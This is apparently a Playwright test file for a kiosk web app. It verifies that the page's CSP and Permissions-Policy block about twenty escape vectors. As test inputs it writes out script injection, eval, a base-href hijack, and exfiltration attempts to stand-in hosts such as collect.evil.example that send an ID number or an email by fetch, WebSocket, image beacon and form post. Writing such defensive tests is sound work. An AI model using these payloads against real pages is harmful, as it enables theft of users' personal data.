/**
 * Escape vectors in browser mode: what the renderer's own policy blocks, with no Electron shell
 * around it (the strict CSP, Permissions-Policy, Chromium's rules on top-level data: URLs). The
 * shell's own handlers are proven in tests/electron/escape.test.ts (fake electron) and
 * tests/electron/escape.spec.ts (a real binary). Every attempt must be refused by the page itself:
 * nothing reaches the network (a route records any request leaving localhost).
 */
import { chromium, type Browser, type BrowserContext, type Page } from '@playwright/test';
import { chromiumLaunchOptions } from '../fixtures/chromium';
import { startKiosk, type RunningKiosk } from '../fixtures/kiosk';
import { expect, test } from './support/fixtures';

/** What one attempt did in the page: whether it got through, and which CSP directives fired. */
interface Outcome {
  escaped: boolean;
  violations: string[];
}

type Attempt = (page: Page, kiosk: RunningKiosk) => Promise<Outcome>;

/** Runs `body` in the page, collecting the CSP violations it causes (they are reported async). */
function inPage(body: string): Attempt {
  return (page) =>
    page.evaluate(async (source) => {
      const violations: string[] = [];
      const onViolation = (event: SecurityPolicyViolationEvent) =>
        violations.push(event.effectiveDirective);
      document.addEventListener('securitypolicyviolation', onViolation);
      let escaped = false;
      try {
        // The body is test code: DevTools compiles it outside the page's CSP. It then runs in a
        // task of its own, as page code would, where the CSP applies to everything it does.
        const run = (0, eval)(`(async () => { ${source} })`) as () => Promise<boolean>;
        await new Promise((resolve) => setTimeout(resolve, 0));
        escaped = await run();
      } catch {
        escaped = false;
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      document.removeEventListener('securitypolicyviolation', onViolation);
      return { escaped, violations };
    }, body);
}

const VECTORS: Array<{ name: string; attempt: Attempt; directive?: string }> = [
  {
    name: 'inline <script> injected in the DOM',
    directive: 'script-src-elem',
    attempt: inPage(`
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = true';
      document.body.append(s);
      await new Promise((r) => setTimeout(r, 100));
      return window.__pwned === true;`),
  },
  {
    name: 'inline event handler attribute',
    directive: 'script-src-attr',
    attempt: inPage(`
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__pwned2 = true');
      img.src = 'data:,x';
      document.body.append(img);
      await new Promise((r) => setTimeout(r, 200));
      img.remove();
      return window.__pwned2 === true;`),
  },
  {
    name: 'eval of a string',
    directive: 'script-src',
    attempt: inPage(`try { return window.eval('1 + 1') === 2; } catch { return false; }`),
  },
  {
    name: 'new Function from a string',
    directive: 'script-src',
    attempt: inPage(`try { return new Function('return 1')() === 1; } catch { return false; }`),
  },
  {
    name: 'setTimeout with a string',
    directive: 'script-src',
    attempt: inPage(`
      setTimeout('window.__pwned3 = true', 0);
      await new Promise((r) => setTimeout(r, 100));
      return window.__pwned3 === true;`),
  },
  {
    name: 'external script',
    directive: 'script-src-elem',
    attempt: inPage(`
      const s = document.createElement('script');
      s.src = 'https://cdn.evil.example/x.js';
      const loaded = new Promise((r) => { s.onload = () => r(true); s.onerror = () => r(false); });
      document.body.append(s);
      return await loaded;`),
  },
  {
    name: 'fetch to an external URL (exfiltration)',
    directive: 'connect-src',
    attempt: inPage(`
      try { await fetch('https://collect.evil.example/?nir=184057512345678'); return true; }
      catch { return false; }`),
  },
  {
    name: 'WebSocket to an external host',
    directive: 'connect-src',
    attempt: inPage(`
      try {
        const ws = new WebSocket('wss://collect.evil.example/');
        return await new Promise((r) => { ws.onopen = () => r(true); ws.onerror = () => r(false); });
      } catch { return false; }`),
  },
  {
    name: 'image beacon to an external URL',
    directive: 'img-src',
    attempt: inPage(`
      const img = new Image();
      const loaded = new Promise((r) => { img.onload = () => r(true); img.onerror = () => r(false); });
      img.src = 'https://collect.evil.example/pixel.gif?email=x';
      return await loaded;`),
  },
  {
    name: 'external stylesheet',
    directive: 'style-src-elem',
    attempt: inPage(`
      const l = document.createElement('link');
      l.rel = 'stylesheet';
      l.href = 'https://cdn.evil.example/x.css';
      const loaded = new Promise((r) => { l.onload = () => r(true); l.onerror = () => r(false); });
      document.head.append(l);
      const ok = await loaded;
      l.remove();
      return ok;`),
  },
  {
    name: 'form posting elsewhere',
    directive: 'form-action',
    attempt: async (page, kiosk) => {
      const outcome = await inPage(`
        const f = document.createElement('form');
        f.method = 'post';
        f.action = 'https://collect.evil.example/form';
        const i = document.createElement('input');
        i.name = 'nir';
        i.value = '184057512345678';
        f.append(i);
        document.body.append(f);
        f.submit();
        await new Promise((r) => setTimeout(r, 300));
        f.remove();
        return false;`)(page, kiosk);
      return { ...outcome, escaped: !page.url().startsWith(kiosk.url) };
    },
  },
  {
    name: 'iframe of another site',
    directive: 'frame-src',
    attempt: inPage(`
      const f = document.createElement('iframe');
      f.src = 'https://evil.example/';
      document.body.append(f);
      await new Promise((r) => setTimeout(r, 300));
      f.remove();
      return false;`),
  },
  {
    name: '<object> plugin content',
    directive: 'object-src',
    attempt: inPage(`
      const o = document.createElement('object');
      o.data = 'https://evil.example/x.pdf';
      document.body.append(o);
      await new Promise((r) => setTimeout(r, 300));
      o.remove();
      return false;`),
  },
  {
    name: '<base href> hijack',
    directive: 'base-uri',
    attempt: inPage(`
      const b = document.createElement('base');
      b.href = 'https://evil.example/';
      document.head.append(b);
      const hijacked = document.baseURI.startsWith('https://evil.example');
      b.remove();
      return hijacked;`),
  },
  {
    name: 'javascript: URL link',
    directive: 'script-src-elem',
    attempt: inPage(`
      const a = document.createElement('a');
      a.href = 'javascript:window.__pwned4 = true';
      a.textContent = 'x';
      document.body.append(a);
      a.click();
      await new Promise((r) => setTimeout(r, 200));
      a.remove();
      return window.__pwned4 === true;`),
  },
  {
    name: 'worker from a blob: URL',
    directive: 'worker-src',
    attempt: inPage(`
      const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      try {
        const w = new Worker(url);
        return await new Promise((r) => {
          w.onmessage = () => r(true);
          w.onerror = () => r(false);
          setTimeout(() => r(false), 500);
        });
      } catch { return false; }`),
  },
  {
    name: 'top-level navigation to a data: URL',
    attempt: async (page, kiosk) => {
      await inPage(`location.href = 'data:text/html,<h1>Faux portail</h1>'; return false;`)(
        page,
        kiosk,
      );
      return { escaped: !page.url().startsWith(kiosk.url), violations: [] };
    },
  },
  {
    // The CSP's sandbox (no allow-modals): Chromium ignores print() before any 'beforeprint'.
    name: 'window.print() from the page',
    attempt: inPage(`
      let started = false;
      window.addEventListener('beforeprint', () => { started = true; });
      window.print();
      await new Promise((r) => setTimeout(r, 300));
      return started;`),
  },
  {
    name: 'print() of a frame the page makes (about:blank inherits the sandbox)',
    attempt: inPage(`
      const f = document.createElement('iframe');
      document.body.append(f);
      let started = false;
      f.contentWindow.addEventListener('beforeprint', () => { started = true; });
      f.contentWindow.print();
      await new Promise((r) => setTimeout(r, 300));
      f.remove();
      return started;`),
  },
  {
    name: 'geolocation',
    attempt: inPage(`
      return await new Promise((r) =>
        navigator.geolocation.getCurrentPosition(() => r(true), () => r(false), { timeout: 2000 }),
      );`),
  },
  {
    name: 'camera (getUserMedia video)',
    attempt: inPage(`
      try { await navigator.mediaDevices.getUserMedia({ video: true }); return true; }
      catch { return false; }`),
  },
  {
    name: 'microphone (getUserMedia audio)',
    attempt: inPage(`
      try { await navigator.mediaDevices.getUserMedia({ audio: true }); return true; }
      catch { return false; }`),
  },
];

test.describe('escape vectors blocked by the renderer policy (browser mode)', () => {
  test.describe.configure({ mode: 'serial' });
  let kiosk: RunningKiosk;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const leftMachine: string[] = [];

  test.beforeAll(async () => {
    kiosk = await startKiosk();
    browser = await chromium.launch(chromiumLaunchOptions());
    context = await browser.newContext();
    await context.route(/^(?!https?:\/\/(localhost|127\.0\.0\.1)[:/]).*/, (route) => {
      leftMachine.push(route.request().url());
      return route.abort();
    });
    page = await context.newPage();
  });
  test.afterAll(async () => {
    await browser?.close();
    await kiosk?.stop();
  });
  test.beforeEach(async () => {
    // A fresh welcome page for each attempt (a blocked form submission can leave one pending).
    await page.goto(kiosk.url);
    await expect(page.locator('html[data-kiosk-ready="welcome"]')).toBeAttached();
  });

  test(`covers ${VECTORS.length} named vectors`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(20);
  });

  for (const vector of VECTORS) {
    test(`blocks: ${vector.name}`, async () => {
      const outcome = await vector.attempt(page, kiosk);
      expect(outcome.escaped, vector.name).toBe(false);
      if (vector.directive) expect(outcome.violations).toContain(vector.directive);
      expect(page.url().startsWith(kiosk.url)).toBe(true);
      expect(leftMachine, 'requests that left the machine').toEqual([]);
    });
  }

  test('the page cannot be framed by another site, and sends no referrer', async () => {
    const response = await page.request.get(kiosk.url);
    const csp = response.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(response.headers()['referrer-policy']).toBe('no-referrer');
    // The camera for our own origin only (document capture); the microphone for nobody.
    expect(response.headers()['permissions-policy']).toMatch(/camera=\(self\).*microphone=\(\)/);
  });
});
